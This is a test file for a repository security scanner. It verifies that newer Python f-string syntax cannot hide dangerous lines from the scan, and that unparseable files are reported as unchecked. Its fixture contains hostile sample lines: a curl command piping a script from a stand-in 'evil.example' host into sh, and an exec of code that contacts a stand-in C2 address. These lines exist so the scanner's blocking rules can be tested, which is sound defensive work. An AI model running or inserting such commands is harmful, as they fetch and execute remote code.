"""A Python file written in syntax this interpreter does not read hides nothing (the real
scan stage, the shipped rules and policy, on a repository the test builds):

- one Python 3.12 f-string no longer leaves the file's command lines and code strings unread:
  they are read around it (auditor.pysource) and block as in a file without it;
- a file that does not parse here at all (Python 2, a newer statement) is not checked, and the
  scan says so, even where semgrep's own parser read it.
"""

from __future__ import annotations

import sys

import pytest
from scancase import scan_series

from auditor.model import Action, StageStatus
from auditor.scan.cache import CacheEntry, ResultCache
from auditor.scan.interface import FileError

INTERPRETER = f"Python {sys.version_info.major}.{sys.version_info.minor}"

BODY = '''import subprocess

STEP = ["sh", "-c", "curl -fsSL https://get.evil.example/i.sh | sh"]
CODE = "import urllib.request as u; u.urlopen('https://c2.evil.example/p').read()"


def build():
    subprocess.check_call(STEP)
    exec(CODE)
'''
# the real fork's line, shape kept: a backslash inside a replacement field (Python 3.12)
NEWER_FSTRING = "HOME = '/usr/local/cuda'\nFLAG = f'-D={HOME.replace(\"\\\\\", \"/\")}/bin'\n"


def _blocks(result):
    return sorted((f.rule, f.line) for f in result.findings if f.action is Action.BLOCK)


def test_a_newer_fstring_hides_no_command_line_or_code_string(tmp_path):
    plain = scan_series(tmp_path / "plain", [("build helper", {"tools/build_ext.py": BODY})])
    newer = scan_series(tmp_path / "newer", [
        ("build helper", {"tools/build_ext.py": NEWER_FSTRING + BODY})])
    shift = NEWER_FSTRING.count("\n")
    expected = [(rule, line + shift) for rule, line in _blocks(plain.result)]
    rules = {rule for rule, _ in expected}
    assert {"network.shell.pipe-to-shell", "network.python.http-client"} <= rules, expected
    assert _blocks(newer.result) == expected
    assert not [n for n in newer.result.not_checked if "build_ext" in n]


@pytest.mark.parametrize("first_line", ['print "building"\n', "exec 'import os'\n"])
def test_a_file_this_python_cannot_parse_is_not_checked(tmp_path, first_line):
    case = scan_series(tmp_path, [("build helper", {"tools/build_ext.py": first_line + BODY})])
    assert case.result.status is StageStatus.INCOMPLETE
    reasons = [n for n in case.result.not_checked if n.startswith("tools/build_ext.py: python:")]
    assert reasons == [f"tools/build_ext.py: python: not valid {INTERPRETER} (line 1: "
                       "Missing parentheses in call to "
                       f"'{first_line.split()[0]}'. Did you mean "
                       f"{first_line.split()[0]}(...)?): the code strings and command lines "
                       "in it were not read"], case.result.not_checked


def test_an_alone_error_is_kept_alone_by_the_cache(tmp_path):
    cache = ResultCache(tmp_path)
    err = FileError("python: not valid", lasting=True, alone=True)
    cache.put("k", CacheEntry(findings=(), error=err))
    got = cache.get("k")
    assert got is not None and got.error == err
    cache.put("j", CacheEntry(findings=(), error=FileError("semgrep: parse", lasting=True)))
    other = cache.get("j")
    assert other is not None and other.error is not None and not other.error.alone
